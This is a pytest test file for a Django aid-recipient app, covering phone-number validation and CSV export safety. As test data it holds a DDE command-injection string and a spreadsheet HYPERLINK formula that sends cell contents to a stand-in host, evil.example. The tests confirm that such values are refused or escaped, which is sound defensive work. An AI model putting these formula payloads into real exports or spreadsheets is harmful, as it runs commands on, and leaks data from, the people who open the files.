"""Phone numbers are validated, and the recipients' CSV export never carries a live spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.exceptions import ValidationError

from minsheng.assistance.models import Category
from minsheng.assistance.services.recipients import recipient_register, recipient_update
from minsheng.engine.masking import mask_name

from .conftest import make_id

DDE = "=cmd|' /C calc'!A0"


@pytest.mark.django_db
@pytest.mark.parametrize("phone", [DDE, "138", "1381234567a", "+86 13812345678 ext", "12345678901", "0734-1234567",
                                   "0123-4567890"])
def test_a_phone_that_is_not_a_phone_number_is_refused(aid, phone):
    with pytest.raises(ValidationError) as err:
        recipient_register(actor=aid.cadre_a, name="张三", id_number=make_id("43040519500101003"),
                           area=aid.village_a, category=Category.TEKUN, consent=True, phone=phone)
    assert "phone" in err.value.message_dict
    with pytest.raises(ValidationError):
        recipient_update(actor=aid.cadre_a, recipient=aid.grandma_a, guardian_phone=phone)


@pytest.mark.django_db
def test_mobiles_and_landlines_are_accepted(aid):
    for phone in ("13812345678", "0734-8123456", "07348123456", "010-62345678-123", "(0734)8123456"):
        recipient_update(actor=aid.cadre_a, recipient=aid.grandma_a, phone=phone, guardian_phone=phone)


@pytest.mark.parametrize("value", ["13812345678", "0734-8123456", "(0734)8123456", "（0734）8123456",
                                   "+8613812345678", "010-62345678-123", "0734-1234567", "0123-4567890",
                                   "07341234567", "8123456", "12345678901", ""])
def test_the_field_and_the_engine_read_a_phone_by_one_rule(value):
    """The recipient's phone field had a pattern of its own, looser than :func:`is_phone` (0734-1234567 in,
    (0734)8123456 out): a number the field kept was not one the engine took for a phone, and the other way."""
    from minsheng.assistance.models import phone_validator
    from minsheng.engine.masking import is_phone

    try:
        phone_validator(value)
        accepted = True
    except ValidationError:
        accepted = False
    assert accepted == is_phone(value)


@pytest.mark.django_db
def test_the_export_writes_formulas_as_text(client, aid):
    leak = '=HYPERLINK("http://evil.example/?leak="&A1,"查看原文")'
    recipient_update(actor=aid.cadre_a, recipient=aid.grandma_a, name=leak)
    client.force_login(aid.civil)
    response = client.get("/assistance/recipients/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + mask_name(leak) in cells  # a name is masked but its first letter: still escaped
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
